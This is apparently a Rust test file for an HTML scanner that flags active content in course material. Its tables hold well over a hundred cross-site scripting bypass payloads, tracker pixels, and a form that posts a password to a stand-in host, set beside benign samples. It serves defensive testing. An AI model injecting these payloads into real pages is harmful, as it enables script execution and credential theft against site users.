//! Active content is found however it is written, and honest material is left alone.

use std::fmt::Write as _;

use hub_package::Code;
use hub_package::active::{self, Sighting};
use proptest::prelude::*;

fn codes(html: &str) -> Vec<Code> {
    let mut codes: Vec<Code> = active::html(html).into_iter().map(|sighting| sighting.code).collect();
    codes.sort_unstable();
    codes.dedup();
    codes
}

/// Pieces that must be found, each with one code it must be found under.
const ACTIVE: &[(Code, &str)] = &[
    // Scripts, in cases, blanks and broken markup.
    (Code::ActiveScript, "<script>alert(1)</script>"),
    (Code::ActiveScript, "<SCRIPT>alert(1)</SCRIPT>"),
    (Code::ActiveScript, "<ScRiPt >alert(1)</sCrIpT >"),
    (Code::ActiveScript, "<script\n>alert(1)</script\n>"),
    (Code::ActiveScript, "<script/x>alert(1)</script>"),
    (Code::ActiveScript, "<script/src=//x.example/a.js></script>"),
    (Code::ActiveScript, "<script src=a.js>"),
    (Code::ActiveScript, "<script>alert(1)"),
    (Code::ActiveScript, "<<script>alert(1)//<</script>"),
    (Code::ActiveScript, "<scr\0ipt><script>alert(1)</script>"),
    (Code::ActiveScript, "<script type=module>import 'x'</script>"),
    (Code::ActiveScript, "<script type=' Text/JavaScript '>x</script>"),
    (Code::ActiveScript, "<script type=text/vbscript>MsgBox 1</script>"),
    (Code::ActiveScript, "<script language=vbs>MsgBox 1</script>"),
    (Code::ActiveScript, "<script type=''>x</script>"),
    (Code::ActiveScript, "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>"),
    (Code::ActiveScript, "<p title='a'>x</p '><script>alert(1)</script>"),
    (Code::ActiveScript, "<!--><script>alert(1)</script>-->"),
    (Code::ActiveScript, "<!---><script>alert(1)</script>-->"),
    (Code::ActiveScript, "<!-- x --!><script>alert(1)</script>-->"),
    (Code::ActiveScript, "<?xml ?><script>alert(1)</script>"),
    (Code::ActiveScript, "<!doctype><script>alert(1)</script>"),
    (Code::ActiveScript, "<![CDATA[><script>alert(1)</script>]]>"),
    (Code::ActiveScript, "<title></title><script>alert(1)</script>"),
    (Code::ActiveScript, "<textarea><b></textarea><script>alert(1)</script>"),
    (Code::ActiveScript, "<style><!--</style><script>alert(1)</script>-->"),
    (Code::ActiveScript, "<xmp><p></xmp><script>alert(1)</script>"),
    (Code::ActiveScript, "<noscript><p title=\"</noscript><script>alert(1)</script>\">"),
    (Code::ActiveScript, "<noscript><style></noscript><script>alert(1)</script>"),
    (Code::ActiveScript, "<noembed><p title=\"</noembed><script>x</script>\">"),
    (Code::ActiveScript, "<table><tr><script>alert(1)</script></tr></table>"),
    (Code::ActiveScript, "<select><option><script>alert(1)</script></select>"),
    (Code::ActiveScript, "<template><script>alert(1)</script></template>"),
    (Code::ActiveScript, "<link rel=import href=//x.example/a.html>"),
    (Code::ActiveScript, "<link rel=\"modulepreload\" href=//x.example/a.js>"),
    (Code::ActiveScript, "</p></div></body></html><script>x</script>"),
    (Code::ActiveScript, "<a title='>'><script>x</script></a>"),
    (Code::ActiveScript, "<div id=a\"b><script>x</script>"),
    // Event handlers.
    (Code::ActiveHandler, "<img src=x onerror=alert(1)>"),
    (Code::ActiveHandler, "<IMG SRC=x ONERROR=alert(1)>"),
    (Code::ActiveHandler, "<img src=x onerror\n=\nalert(1)>"),
    (Code::ActiveHandler, "<img/src=\"x\"/onerror=alert(1)>"),
    (Code::ActiveHandler, "<img src='x'onerror='alert(1)'>"),
    (Code::ActiveHandler, "<img src=x\u{c}onerror=alert(1)>"),
    (Code::ActiveHandler, "<img src=x onerror=&#97;lert(1)>"),
    (Code::ActiveHandler, "<img src=x onerror=alert(1)//"),
    (Code::ActiveHandler, "<img src=x onerror=alert(1) <p>"),
    (Code::ActiveHandler, "<img \"onerror=alert(1)\" onerror=alert(2)>"),
    (Code::ActiveHandler, "<img '\"><img src=x onerror=alert(1)>"),
    (Code::ActiveHandler, "<img title=`x` onerror=alert(1)>"),
    (Code::ActiveHandler, "<img src=x:x onerror=alert(1) onerror=''>"),
    (Code::ActiveHandler, "<image src=x onerror=alert(1)>"),
    (Code::ActiveHandler, "<body onload=alert(1)>"),
    (Code::ActiveHandler, "<input autofocus onfocus=alert(1)>"),
    (Code::ActiveHandler, "<details open ontoggle=alert(1)>"),
    (Code::ActiveHandler, "<video><source onerror=alert(1)></video>"),
    (Code::ActiveHandler, "<audio src=x onerror=alert(1)>"),
    (Code::ActiveHandler, "<marquee onstart=alert(1)>"),
    (Code::ActiveHandler, "<div style=animation-name:x onanimationstart=alert(1)>"),
    (Code::ActiveHandler, "<div onpointerrawupdate=alert(1)>"),
    (Code::ActiveHandler, "<div popover onbeforetoggle=alert(1)>"),
    (Code::ActiveHandler, "<xss onfuturething=alert(1)>"),
    (Code::ActiveHandler, "<a onclick=\"this.target='_blank'\" href=a>x</a>"),
    (Code::ActiveHandler, "<p/onclick=alert(1)>"),
    (Code::ActiveHandler, "<p =x onclick=alert(1)>"),
    (Code::ActiveHandler, "<p x=\"a\"\"onclick=x\" onclick=alert(1)>"),
    (Code::ActiveHandler, "<noscript><img src=x onerror=alert(1)></noscript>"),
    (Code::ActiveHandler, "<select><style></select><img src=x onerror=alert(1)></style>"),
    (Code::ActiveHandler, "<p><![CDATA[><img src=x onerror=alert(1)>]]>"),
    (Code::ActiveHandler, "<!--[if IE]><b>--><img src=x onerror=alert(1)><!--<![endif]-->"),
    (Code::ActiveHandler, "<a href='x' title='\"></a><img src=x onerror=alert(1)>'></a><i onclick=a>"),
    (Code::ActiveHandler, "</br onclick=x><br onclick=x>"),
    // Addresses that run.
    (Code::ActiveAddress, "<a href=javascript:alert(1)>x</a>"),
    (Code::ActiveAddress, "<a href=JaVaScRiPt:alert(1)>x</a>"),
    (Code::ActiveAddress, "<a href=' javascript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='java\tscript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='java\nscript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='&#106;avascript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='&#x6A;avascript&#58;alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='&#0000106avascript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='javascript&colon;alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='&#1;javascript:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href='java\0script:alert(1)'>x</a>"),
    (Code::ActiveAddress, "<a href=vbscript:MsgBox(1)>x</a>"),
    (Code::ActiveAddress, "<a href=data:text/html,<script>alert(1)</script>>x</a>"),
    (Code::ActiveAddress, "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>"),
    (Code::ActiveAddress, "<a href='DATA:TEXT/HTML;charset=utf-8,x'>x</a>"),
    (Code::ActiveAddress, "<a href='data:image/svg+xml,<svg onload=a>'>x</a>"),
    (Code::ActiveAddress, "<a href='data:application/xhtml+xml,x'>x</a>"),
    (Code::ActiveAddress, "<a href='view-source:javascript:x'>x</a>"),
    (Code::ActiveAddress, "<area href=javascript:alert(1)>"),
    (Code::ActiveAddress, "<form action=javascript:alert(1)>"),
    (Code::ActiveAddress, "<button formaction=javascript:alert(1)>x</button>"),
    (Code::ActiveAddress, "<input type=image src=javascript:alert(1)>"),
    (Code::ActiveAddress, "<iframe src=javascript:alert(1)>"),
    (Code::ActiveAddress, "<object data=javascript:alert(1)>"),
    (Code::ActiveAddress, "<embed src=data:text/html,x>"),
    (Code::ActiveAddress, "<object><param name=src value=javascript:alert(1)></object>"),
    (Code::ActiveAddress, "<table background=javascript:alert(1)>"),
    (Code::ActiveAddress, "<img lowsrc=javascript:alert(1)>"),
    (Code::ActiveAddress, "<link rel=stylesheet href=javascript:alert(1)>"),
    (Code::ActiveAddress, "<base href='javascript:/a/+alert(1)//'>"),
    (Code::ActiveAddress, "<isindex action=javascript:alert(1)>"),
    (Code::ActiveAddress, "<a href=ok onclick='' href2 xlink:href=javascript:x>x</a>"),
    // SVG.
    (Code::ActiveScript, "<svg><script>alert(1)</script></svg>"),
    (Code::ActiveScript, "<svg><script>alert&#40;1&#41;</script></svg>"),
    (Code::ActiveScript, "<svg><script href=data:,alert(1) /></svg>"),
    (Code::ActiveScript, "<svg><script xlink:href=//x.example/a.js></script></svg>"),
    (Code::ActiveScript, "<svg><style><script>alert(1)</script></style></svg>"),
    (Code::ActiveHandler, "<svg onload=alert(1)>"),
    (Code::ActiveHandler, "<svg/onload=alert(1)>"),
    (Code::ActiveHandler, "<svg><g onload=alert(1)></g></svg>"),
    (Code::ActiveHandler, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    (Code::ActiveHandler, "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    (Code::ActiveHandler, "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    (Code::ActiveHandler, "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>"),
    (Code::ActiveHandler, "<svg><![CDATA[</svg><img src=x onerror=alert(1)>"),
    (Code::ActiveHandler, "<div><svg></div><![CDATA[><img src=x onerror=alert(1)>]]>"),
    (Code::ActiveAddress, "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"),
    (Code::ActiveAddress, "<svg><a href='&#106avascript:alert(1)'><rect/></a></svg>"),
    (Code::ActiveSvg, "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"),
    (Code::ActiveSvg, "<svg><set attributeName=onmouseover to=alert(1) /></svg>"),
    (Code::ActiveSvg, "<svg><set attributeName=xlink:href to=javascript:x /></svg>"),
    (Code::ActiveSvg, "<svg><use href='data:image/svg+xml,<svg id=x onload=a>#x' /></svg>"),
    (Code::ActiveSvg, "<svg><use xlink:href='//x.example/a.svg#b' /></svg>"),
    (Code::SvgForeignObject, "<svg><foreignObject><p>x</p></foreignObject></svg>"),
    (Code::ActiveFrame, "<svg><foreignObject><iframe src=//x.example></iframe></foreignObject></svg>"),
    // MathML.
    (Code::ActiveAddress, "<math href=javascript:alert(1)>x</math>"),
    (
        Code::ActiveAddress,
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ),
    (Code::ActiveAddress, "<math><mi href='java\nscript:x'>x</mi></math>"),
    (Code::ActiveHandler, "<math><mi onclick=alert(1)>x</mi></math>"),
    (Code::ActiveHandler, "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    (
        Code::ActiveHandler,
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\" onerror=x>",
    ),
    (
        Code::ActiveScript,
        "<math><annotation-xml encoding='text/html'><style></style><script>alert(1)</script></annotation-xml></math>",
    ),
    // Frames, objects, forms.
    (Code::ActiveFrame, "<iframe src=//x.example></iframe>"),
    (Code::ActiveFrame, "<IFRAME SRC=https://x.example/>"),
    (Code::ActiveFrame, "<iframe src='@@PLUGINFILE@@/game.html'></iframe>"),
    (Code::ActiveFrame, "<iframe srcdoc='<p>x</p>'></iframe>"),
    (Code::ActiveFrame, "<iframe src=https://www.youtube.com/embed/x srcdoc='&lt;b&gt;'></iframe>"),
    (Code::ActiveFrame, "<iframe src=https://www.youtube.com.x.example/embed/x></iframe>"),
    (Code::ActiveFrame, "<iframe src=https://www.youtube.com@x.example/embed/x></iframe>"),
    (Code::ActiveFrame, "<frameset><frame src=//x.example></frameset>"),
    (Code::ActiveFrame, "<portal src=//x.example></portal>"),
    (Code::ActiveScript, "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
    (Code::ActiveHandler, "<iframe srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>"),
    (Code::ActiveObject, "<object data=game.swf></object>"),
    (Code::ActiveObject, "<embed src=game.swf>"),
    (Code::ActiveObject, "<applet code=X.class></applet>"),
    (Code::ActiveObject, "<object classid=clsid:D27CDB6E></object>"),
    (Code::FormPostsAway, "<form action=https://x.example/steal method=post><input name=password></form>"),
    (Code::FormPostsAway, "<form action=//x.example><input></form>"),
    (Code::FormPostsAway, "<form action='\\\\x.example\\a'><input></form>"),
    (Code::FormPostsAway, "<form action=mailto:me@x.example><input></form>"),
    (Code::FormPostsAway, "<form><button formaction=https://x.example>x</button></form>"),
    (Code::FormPostsAway, "<form><input type=submit formaction='&#104;ttps://x.example'></form>"),
    // What leads astray.
    (Code::MetaRefresh, "<meta http-equiv=refresh content='0;url=//x.example'>"),
    (Code::MetaRefresh, "<META HTTP-EQUIV=\" Refresh \" CONTENT=1>"),
    (Code::MetaRefresh, "<meta http-equiv=Set-Cookie content=a=b>"),
    (Code::BaseAddress, "<base href=//x.example/>"),
    // Spies.
    (Code::ExternalTracker, "<img src=https://x.example/p.gif width=1 height=1>"),
    (Code::ExternalTracker, "<img src=//x.example/p.gif width='1px' height='0'>"),
    (Code::ExternalTracker, "<img src=https://x.example/p.gif style='display : none'>"),
    (Code::ExternalTracker, "<img src=https://x.example/p.gif style='width:1px;height:1px'>"),
    (Code::ExternalTracker, "<img src=https://x.example/p.gif hidden>"),
    (Code::ExternalTracker, "<img src=https://www.google-analytics.com/collect?v=1>"),
    (Code::ExternalTracker, "<noscript><img src='https://www.facebook.com/tr?id=1'></noscript>"),
    (Code::ExternalTracker, "<script src=https://www.googletagmanager.com/gtag/js></script>"),
    (
        Code::ExternalTracker,
        "<noscript><iframe src=https://www.googletagmanager.com/ns.html></iframe></noscript>",
    ),
    (Code::ExternalTracker, "<img src=https://stats.school.example/matomo.php?idsite=1>"),
    (Code::ExternalTracker, "<a ping=https://x.example href=a>x</a>"),
    (Code::ExternalTracker, "<p style='background:url(https://bat.bing.com/x)'>x</p>"),
    // Styles.
    (Code::ExternalStyle, "<link rel=stylesheet href=https://x.example/a.css>"),
    (Code::ExternalStyle, "<LINK REL='alternate StyleSheet' HREF=//x.example/a.css>"),
    (Code::ExternalStyle, "<style>@import url(https://x.example/a.css);</style>"),
    (Code::ExternalStyle, "<style>@\\69mport '//x.example/a.css';</style>"),
    (Code::ExternalStyle, "<svg><style>@import '//x.example/a.css'</style></svg>"),
    (Code::ExternalStyle, "<link rel=stylesheet href='data:text/html,x'>"),
    (Code::ActiveStyle, "<p style='width:expression(alert(1))'>x</p>"),
    (Code::ActiveStyle, "<p style='width:exp/**/ression(alert(1))'>x</p>"),
    (Code::ActiveStyle, "<p style='width:\\65xpression(alert(1))'>x</p>"),
    (Code::ActiveStyle, "<style>p{behavior:url(x.htc)}</style>"),
    (Code::ActiveStyle, "<style>p{-moz-binding:url(x.xml#a)}</style>"),
    (Code::ActiveStyle, "<p style=\"background:url(java&#115;cript:x)\">x</p>"),
];

/// Pieces of honest material, each with the codes it may be noted under.
const HONEST: &[(&[Code], &str)] = &[
    (&[], ""),
    (&[], "<p>Plain text.</p>"),
    (&[], "2 < 3 and 4 > 1"),
    (&[], "if a<b then c>d"),
    (&[], "a <b only if c> d"),
    (&[], "x <y once z is one> 0"),
    (&[], "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
    (&[], "<pre><code class=\"language-html\">&lt;img src=x onerror=alert(1)&gt;</code></pre>"),
    (&[], "<p>Type <code>javascript:alert(1)</code> into the address bar.</p>"),
    (&[], "<textarea><script>alert(1)</script></textarea>"),
    (&[], "<xmp><script>alert(1)</script></xmp>"),
    (&[], "<title><script>x</script></title>"),
    (&[], "<!-- <script>alert(1)</script> -->"),
    (&[], "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--><p>From Word</p>"),
    (&[], "<p class=\"MsoNormal\" style=\"mso-margin-top-alt:auto\"><o:p>&nbsp;</o:p></p>"),
    (&[], "<link rel=\"File-List\" href=\"file:///C:\\Users\\x\\clip_filelist.xml\">"),
    (&[], "<p dir=\"ltr\" style=\"text-align: left;\">Moodle's editor<br></p>"),
    (&[], "<p id=\"yui_3_17_2_1_1\">Atto</p>"),
    (&[], "<h3 class=\"mt-2\">Title</h3><ul><li>one</li></ul>"),
    (
        &[],
        "<img src=\"@@PLUGINFILE@@/a%20b.png\" alt=\"onerror=1\" width=\"1\" height=\"1\" class=\"img-fluid\">",
    ),
    (&[], "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\" style=\"display:none\">"),
    (&[], "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" alt=\"icon\">"),
    (&[], "<img src=\"https://example.org/photo.jpg\" width=\"640\" height=\"480\">"),
    (&[], "<img src=\"https://example.org/rule.png\" width=\"600\" height=\"1\">"),
    (&[], "<img srcset=\"a.png 1x, b.png 2x\" src=\"a.png\">"),
    (&[], "<a href=\"$@COURSEVIEWBYID*12@$\">Course</a>"),
    (&[], "<a href=\"$@FORUMVIEWBYID*7@$\" target=\"_blank\">Forum</a>"),
    (&[], "<a href=\"$@FILEPHP@$$@SLASH@$a.pdf$@FORCEDOWNLOAD@$\">File</a>"),
    (&[], "<a href=\"https://example.org/?q=javascript:void(0)\">Search</a>"),
    (&[], "<a href=\"https://example.org/javascript:x\">Odd page</a>"),
    (&[], "<a href=\"#javascript\" title=\"javascript: the good parts\">Book</a>"),
    (&[], "<a href=\"mailto:teacher@example.org\">Mail</a> <a href=\"tel:+491234\">Phone</a>"),
    (&[], "<a name=\"onclick\"></a><a id=\"onload\" href=\"x.html\">x</a>"),
    (&[], "<a href=\"page.html\" class=\"onclick=x\" data-onclick=\"x\">x</a>"),
    (
        &[],
        "<span lang=\"en\" class=\"multilang\">Hello</span><span lang=\"de\" class=\"multilang\">Hallo</span>",
    ),
    (&[], "{mlang en}Hello{mlang}{mlang de}Hallo{mlang}"),
    (&[], "<p>\\( a < b \\) and $$x^2 > y$$</p>"),
    (&[], "<span class=\"filter_mathjaxloader_equation\">\\(\\frac{1}{2}\\)</span>"),
    (&[], "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mfrac><mn>1</mn><mi>x</mi></mfrac></math>"),
    (
        &[],
        "<math><semantics><mi>x</mi><annotation encoding=\"application/x-tex\">x</annotation></semantics></math>",
    ),
    (&[], "<math><mtext>onclick=1</mtext><mo>&lt;</mo><mstyle displaystyle=\"true\"></mstyle></math>"),
    (&[], "<script type=\"math/tex\">x < y</script>"),
    (&[], "<script type=\"math/tex; mode=display\">\\int</script>"),
    (&[], "<script type=\"application/ld+json\">{\"@type\": \"Course\"}</script>"),
    (&[], "<table border=\"1\" cellpadding=\"2\"><thead><tr><th scope=\"col\">A</th></tr></thead></table>"),
    (&[], "<table style=\"width: 100%; height: 1px; border-collapse: collapse\"><tr><td>x</td></tr></table>"),
    (&[], "<details><summary>More</summary>Text</details>"),
    (&[], "<video controls=\"true\"><source src=\"@@PLUGINFILE@@/a.mp4\">@@PLUGINFILE@@/a.mp4</video>"),
    (
        &[],
        "<audio controls><source src=\"https://example.org/a.mp3\"><track kind=\"subtitles\" src=\"a.vtt\"></audio>",
    ),
    (&[], "<div class=\"h5p-placeholder\" contenteditable=\"false\">@@PLUGINFILE@@/quiz.h5p</div>"),
    (&[], "<iframe src=\"$@H5PEMBED@$?url=x\" class=\"h5p-player\"></iframe>"),
    (&[], "<p style=\"scroll-behavior: smooth; background-image: url('@@PLUGINFILE@@/a.png')\">x</p>"),
    (&[], "<p style=\"background:url(https://example.org/paper.png)\">x</p>"),
    (&[], "<style>.a { color: red } /* behavior: none */ .b > .c { width: 1px }</style>"),
    (&[], "<style>@import url('own.css'); @font-face { src: url(@@PLUGINFILE@@/f.woff) }</style>"),
    (
        &[],
        "<link rel=\"stylesheet\" href=\"style.css\"><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"x\">",
    ),
    (&[], "<form action=\"index.php\" method=\"get\"><input name=\"q\"><button>Go</button></form>"),
    (&[], "<form><select name=\"a\"><option value=\"javascript:\">x</option></select></form>"),
    (&[], "{1:MULTICHOICE:=right#yes~wrong#no} <input value=\"onclick=1\">"),
    (
        &[],
        "<svg viewBox=\"0 0 1 1\"><title>Dot</title><style>.a{fill:red}</style><circle class=\"a\" r=\"1\"/></svg>",
    ),
    (&[], "<svg><defs><path id=\"p\" d=\"M0 0\"/></defs><use href=\"#p\"/><use xlink:href=\"#p\"/></svg>"),
    (&[], "<svg><animate attributeName=\"opacity\" from=\"0\" to=\"1\" dur=\"1s\"/></svg>"),
    (
        &[],
        "<svg><a href=\"https://example.org\"><text>link</text></a><image href=\"data:image/png;base64,x\"/></svg>",
    ),
    (&[], "<p>The attribute onclick=\"x\" and the tag \u{ff1c}script\u{ff1e} are explained.</p>"),
    (&[], "<p>שלום</p><p>日本語 <ruby>漢<rt>kan</rt></ruby></p>"),
    (&[], "<blockquote cite=\"https://example.org\"><q>x</q></blockquote>"),
    (&[], "<abbr title=\"<b>x</b>\">x</abbr>"),
    (&[], "<p data-x='<script>alert(1)</script>' aria-label=\"javascript:x\">x</p>"),
    (&[], "&lt;iframe src=\"//x.example\"&gt;&lt;/iframe&gt;"),
    (&[], "<iframe></iframe><iframe src=\"about:blank\"></iframe>"),
    (
        &[Code::ExternalEmbed],
        "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/x?rel=0\"></iframe>",
    ),
    (&[Code::ExternalEmbed], "<iframe src=\"//www.youtube-nocookie.com/embed/x\" allowfullscreen></iframe>"),
    (&[Code::ExternalEmbed], "<iframe src=\"https://player.vimeo.com/video/1\"><p>No frames</p></iframe>"),
    (&[Code::ExternalEmbed], "<iframe src=\"https://www.geogebra.org/material/iframe/id/x\"></iframe>"),
    (&[Code::ExternalEmbed], "<iframe src=\"https://h5p.org/h5p/embed/1\"></iframe>"),
    (
        &[Code::ExternalEmbed],
        "<embed src=\"https://www.youtube.com/v/x\" type=\"application/x-shockwave-flash\">",
    ),
    (&[Code::ExternalEmbed], "<iframe src=\"https://www.google.com/maps/embed?pb=x\"></iframe>"),
    (
        &[Code::SvgForeignObject],
        "<svg><switch><foreignObject><div>Label</div></foreignObject></switch></svg>",
    ),
];

#[test]
fn the_tables_are_as_large_as_they_must_be() {
    assert!(ACTIVE.len() >= 120, "{}", ACTIVE.len());
    assert!(HONEST.len() >= 60, "{}", HONEST.len());
}

#[test]
fn every_active_piece_is_found() {
    let missed: Vec<_> = ACTIVE
        .iter()
        .filter(|(code, html)| !codes(html).contains(code))
        .map(|(code, html)| (code, html, codes(html)))
        .collect();
    assert!(missed.is_empty(), "{} of {}: {missed:#?}", missed.len(), ACTIVE.len());
}

/// The same pieces as they would stand in the middle of an honest page.
#[test]
fn every_active_piece_is_found_inside_a_page() {
    for (before, after) in [
        ("<div class=\"no-overflow\"><h3>Title</h3><p>Text with <b>words</b>.</p>", "<p>More.</p></div>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<svg><circle r=\"1\"/></svg><math><mi>x</mi></math>", ""),
        ("<textarea>&lt;b&gt;</textarea><style>p > a { color: red }</style><!-- x -->", "<iframe></iframe>"),
    ] {
        for (code, html) in ACTIVE {
            let page = format!("{before}{html}{after}");
            assert!(codes(&page).contains(code), "{page}: {:?}", codes(&page));
        }
    }
}

#[test]
fn honest_pieces_are_not_taken_for_active() {
    let wrong: Vec<_> = HONEST
        .iter()
        .filter(|(allowed, html)| codes(html) != *allowed)
        .map(|(_, html)| (html, codes(html)))
        .collect();
    assert!(wrong.is_empty(), "{} of {}: {wrong:#?}", wrong.len(), HONEST.len());
}

#[test]
fn evidence_shows_the_markup_cut_and_without_keys_or_mailboxes() {
    let evidence = |html: &str| active::html(html).remove(0).evidence;
    assert_eq!(evidence("<p class=a onclick='go()' title=b>x</p>"), "<p onclick=\"go()\">");
    assert_eq!(evidence("<script>\n  steal()\n</script>"), "<script>steal()");
    assert_eq!(
        evidence("<iframe src='https://x.example/a?wstoken=123'>"),
        "<iframe src=\"https://x.example/a?…\">"
    );
    assert_eq!(evidence("<form action=mailto:jane@x.example>"), "<form action=\"mailto:…@x.example\">");
    let long = evidence(&format!("<script>{}</script>", "x".repeat(100_000)));
    assert!(long.chars().count() <= 301, "{long}");
    assert!(evidence("<p onclick='\u{202e}x'>").contains("\\u{202e}"));
}

#[test]
fn a_thing_that_occurs_often_is_listed_once() {
    let html = "<p onclick='a()'>x</p>".repeat(1_000);
    assert_eq!(active::html(&html).len(), 1);
    let html = numbered("<p onclick='a(", ")'>x</p>", 200_000);
    assert_eq!(active::html(&html).len(), 500);
}

/// `start`, a number and `end` again and again, until it is `size` long.
fn numbered(start: &str, end: &str, size: usize) -> String {
    let mut text = String::new();
    let mut number = 0;
    while text.len() < size {
        let _ = write!(text, "{start}{number}{end}");
        number += 1;
    }
    text
}

/// Three million bytes in the shapes that cost careless readers most: what grows with the square of them takes hours, and
/// a test that hangs is ended by its runner (`.config/nextest.toml`).
#[test]
fn hostile_pieces_cost_little() {
    const SIZE: usize = 3_000_000;
    let fill = |unit: &str| unit.repeat(SIZE / unit.len());
    let numbered = |start: &str, end: &str| numbered(start, end, SIZE);
    let pieces = [
        fill("<"),
        fill("<!--"),
        fill("<div>"),
        fill("<svg><g>"),
        fill("<svg></g></x>"),
        fill("<svg><foreignObject>"),
        fill("<math><mi><p>"),
        fill("</"),
        fill("&amp;&lt&#x41;"),
        fill("<script>"),
        fill("<svg><script></svg>"),
        fill("<style>@import url("),
        fill("<svg><style>\\65"),
        format!("<p {}>", numbered("a", "=1 ")),
        format!("<p {}>", numbered("on", "abc=1 ")),
        format!("<p {}>", numbered("x", ":href=a ")),
        format!("<a href=\"{}javascript:x\">", fill(" ")),
        format!("<a href=\"{}\">", fill("javascript")),
        format!("<a style=\"{}\">", fill("/*\\")),
        format!("<{}>", fill("x")),
        format!("</{}", fill("script")),
        format!("<textarea>{}", fill("</textare")),
        format!("<iframe srcdoc=\"{}\">", fill("<iframe srcdoc=&quot;")),
        format!("<svg><style>{}", fill("url(a)")),
        numbered("<p onclick=a", "()>"),
        numbered("<a href=http://host", "/x>"),
    ];
    for piece in pieces {
        let sightings = active::html(&piece);
        assert!(sightings.len() <= 500, "{}", &piece[..60]);
    }
}

/// Blanks in front of an address do not push it out of what is looked at.
#[test]
fn a_flood_of_attributes_or_blanks_hides_nothing() {
    let many = numbered("a", "=1 ", 1_000_000);
    assert_eq!(codes(&format!("<p {many} onclick=x>")), [Code::ActiveHandler]);
    let prefixes = numbered("x", ":href=a ", 20_000);
    assert_eq!(codes(&format!("<svg><a {prefixes} xlink:href=javascript:x>")), [Code::ActiveAddress]);
    assert_eq!(
        codes(&format!("<a href=\"{}javascript:x\">", "\n\t ".repeat(100_000))),
        [Code::ActiveAddress]
    );
    assert_eq!(codes(&format!("{}<script>x</script>", "<div>".repeat(100_000))), [Code::ActiveScript]);
}

const PIECES: &[&str] = &[
    "<",
    ">",
    "/",
    "=",
    "\"",
    "'",
    "`",
    " ",
    "\n",
    "\0",
    "&",
    "&#",
    "&lt;",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<!",
    "<?",
    "</",
    "svg",
    "<svg>",
    "</svg>",
    "<math>",
    "<mi>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<title>",
    "<textarea>",
    "<select>",
    "<noscript>",
    "</noscript>",
    "<foreignObject>",
    "<annotation-xml>",
    "<p>",
    "onclick=",
    "href=",
    "javascript:",
    "style=",
    "srcdoc=",
    "url(",
    "@import",
    "/*",
    "\\65",
    "ü",
    "\u{202e}",
    "😀",
    "http://",
    "@",
    "?",
    "x",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_the_markup_is_the_answer_is_bounded_and_the_same(
        pieces in prop::collection::vec(prop::sample::select(PIECES), 0..200),
    ) {
        let html = pieces.concat();
        let sightings: Vec<Sighting> = active::html(&html);
        prop_assert_eq!(&sightings, &active::html(&html));
        for sighting in &sightings {
            // Each escaped character is at most `\u{10ffff}`.
            prop_assert!(sighting.evidence.chars().count() <= 300 * 10 + 1);
            let raw = sighting.evidence.contains(['\0', '\n', '\u{202e}']);
            prop_assert!(!raw, "a character that is not escaped");
        }
    }

    #[test]
    fn random_text_is_read(html in "\\PC{0,400}") {
        active::html(&html);
    }

    /// What is found stays found when honest text stands around it.
    #[test]
    fn a_script_is_found_wherever_markup_may_stand(
        before in "[a-z .,;]{0,40}",
        depth in 0..40_usize,
        after in "\\PC{0,40}",
    ) {
        let html = format!("{before}{}<script>x</script>{after}", "<div><svg><g></g></svg>".repeat(depth));
        prop_assert!(codes(&html).contains(&Code::ActiveScript));
    }
}
